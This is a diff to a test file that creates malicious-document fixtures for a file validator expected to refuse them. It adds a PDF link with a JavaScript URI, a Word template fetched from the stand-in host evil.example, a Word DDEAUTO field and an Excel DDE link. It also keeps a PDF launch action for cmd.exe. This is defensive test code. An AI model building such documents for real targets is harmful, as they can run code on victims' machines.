@@ -32,6 +32,12 @@ def with_script(paper):
     )
 
 
+def with_script_link(paper):
+    act = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("JavaScript:alert(1)"))
+    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=act)
+    paper.pages[0].Annots = pikepdf.Array([paper.make_indirect(link)])
+
+
 def with_launch(paper):
     paper.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
 
@@ -104,6 +110,7 @@ REFUSED = {
         "password",
     ),
     "script": (lambda: saved(with_script), "scripts"),
+    "script in a link": (lambda: saved(with_script_link), "scripts"),
     "packed script": (
         lambda: saved(with_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
         "scripts",
@@ -129,6 +136,22 @@ REFUSED = {
     "entities in word": (
         lambda: archive(word__document_dot_xml=b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
         "broken",
+    ),
+    "template from elsewhere": (
+        lambda: archive(
+            word__document_dot_xml=b"<a/>",
+            word___rels__settings_dot_xml_dot_rels=b'<Relationship Id="r" Target="http://evil.example/x.dotm" '
+            b'Type="http://x/relationships/attachedTemplate" TargetMode="External"/>',
+        ),
+        "from elsewhere",
+    ),
+    "word that starts a program": (
+        lambda: archive(word__document_dot_xml=b"<w:instrText> DDEAUTO c:\\x </w:instrText>"),
+        "from elsewhere",
+    ),
+    "sheet that starts a program": (
+        lambda: archive(xl__workbook_dot_xml=b"<a/>", xl__externalLinks__e1_dot_xml=b"<ddeLink/>"),
+        "from elsewhere",
     ),
     "pixel bomb": (pixel_bomb, "pixels"),
     "half a picture": (lambda: picture("JPEG", (800, 600))[:400], "broken"),
